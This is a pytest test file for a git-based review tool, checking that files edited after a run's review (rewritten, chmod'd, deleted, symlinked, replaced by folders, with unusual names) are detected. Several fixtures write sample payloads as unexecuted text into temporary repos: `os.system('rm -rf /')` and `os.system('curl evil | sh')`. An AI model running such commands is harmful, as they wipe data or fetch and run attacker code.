"""`runs.reviewed`: the run's files changed in its worktree since the run stopped are exactly
those `git status` reports changed against what the run left (content, mode, deletion, a
file turned into a symlink); files outside the run's set never count."""

from __future__ import annotations

import itertools
import os
import subprocess
from pathlib import Path

import pytest

from reviewloop.git import carry, names
from reviewloop.git.carry import Packed
from reviewloop.git.repository import open_repository
from reviewloop.runs.reviewed import changed_since_review
from tests.support.gitutil import git
from tests.support.repos import init_repo

FILES = {"app/greet.py": "def greet():\n    return 1\n", "app/core.py": "x = 1\n",
         "run.sh": "#!/bin/sh\necho hi\n", "README.md": "readme\n"}
RUN_FILES = ("app/greet.py", "app/core.py", "run.sh")


def _rewrite(path: Path) -> None:
    path.write_text("import os\nos.system('rm -rf /')\n")


def _append(path: Path) -> None:
    path.write_bytes(path.read_bytes() + b"#")


def _same_bytes(path: Path) -> None:
    path.write_bytes(path.read_bytes())  # touched, not changed


def _chmod_x(path: Path) -> None:
    path.chmod(0o755)


def _delete(path: Path) -> None:
    path.unlink()


def _symlink(path: Path) -> None:
    data = path.read_bytes()
    path.unlink()
    (path.parent / "elsewhere").write_bytes(data)
    path.symlink_to("elsewhere")


EDITS = {"rewrite": _rewrite, "append": _append, "same-bytes": _same_bytes,
         "chmod+x": _chmod_x, "delete": _delete, "symlink": _symlink}
CASES = [pytest.param(target, edits, id=f"{target}:{'+'.join(edits)}")
         for target in ("app/greet.py", "run.sh", "README.md")
         for edits in itertools.chain(itertools.combinations(sorted(EDITS), 1),
                                      [("append", "chmod+x"), ("same-bytes", "chmod+x")])]


def _left(root: Path) -> Packed:
    """The worktree saved as a run's work is (a tree holding it under `work/`)."""
    repo = open_repository(root)
    work = repo.worktree_tree()
    composed = subprocess.run(["git", "mktree"], cwd=root, check=True, capture_output=True,
                              text=True, input=f"040000 tree {work}\t{carry.WORK}\n").stdout
    return Packed(base="0" * 40, head="0" * 40, tree=composed.strip(), pack=b"")


@pytest.mark.parametrize(("target", "edits"), CASES)
def test_changed_files_are_what_git_status_reports(tmp_path: Path, target: str,
                                                   edits: tuple[str, ...]):
    root = init_repo(tmp_path / "wt", FILES)
    os.chmod(root / "run.sh", 0o755)
    git(root, "add", "-A")
    git(root, "commit", "-qm", "as the run left it")
    packed = _left(root)
    for edit in edits:
        EDITS[edit](root / target)

    said = git(root, "status", "--porcelain", "--", *RUN_FILES).splitlines()
    oracle = [line[3:] for line in said if not line.startswith("??")]
    assert changed_since_review(packed, open_repository(root), RUN_FILES) == \
        [p for p in RUN_FILES if p in oracle]


def test_nothing_recorded_means_nothing_refused(tmp_path: Path):
    root = init_repo(tmp_path / "wt", FILES)
    _rewrite(root / "app/greet.py")
    assert changed_since_review(None, open_repository(root), RUN_FILES) == []


# kinds of path: plain, UTF-8 git quotes, not UTF-8 (the run records its shown `\xNN` form)
NAMES = {"plain": b"app/mod.py", "utf8": "app/gr\u00fc\u00dfe.py".encode(),
         "latin1": b"app/caf\xe9.py", "space": b"app/a b.py"}


def _to_folder(path: Path) -> None:  # a folder of new files (an ignored one too) at the path
    if os.path.lexists(path):
        path.unlink()
    path.mkdir()
    (path / "__init__.py").write_text("import os\nos.system('curl evil | sh')\n")
    (path / ".env").write_text("SECRET=1\n")


def _to_link(path: Path) -> None:
    if os.path.lexists(path):
        path.unlink()
    path.symlink_to("elsewhere")


def _to_file(path: Path) -> None:
    path.write_text("import os\nos.system('UNREVIEWED')\n")


REPLACE = {"folder": _to_folder, "link": _to_link, "file": _to_file, "none": None}


@pytest.mark.parametrize(("kind", "deleted", "edit"),
                         list(itertools.product(sorted(NAMES), (False, True), sorted(REPLACE))))
def test_any_kind_of_path_edited_after_review_is_found(tmp_path: Path, kind: str,
                                                       deleted: bool, edit: str):
    """The oracle: what `git add -A` of the path would record differs from the saved tree,
    or anything at all (folder, link, file) stands where the run deleted the path."""
    root = init_repo(tmp_path / "wt", FILES)
    raw = NAMES[kind]
    full = Path(os.fsdecode(root)) / os.fsdecode(raw)
    full.write_text("x = 1\n")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "base")
    if deleted:
        full.unlink()
    packed = _left(root)
    if REPLACE[edit] is not None:
        REPLACE[edit](full)  # type: ignore[misc]
    shown_name = names.shown(os.fsdecode(raw))
    expect = edit != "none" and not (deleted and edit == "none")
    assert changed_since_review(packed, open_repository(root), [shown_name]) == \
        ([shown_name] if expect else [])
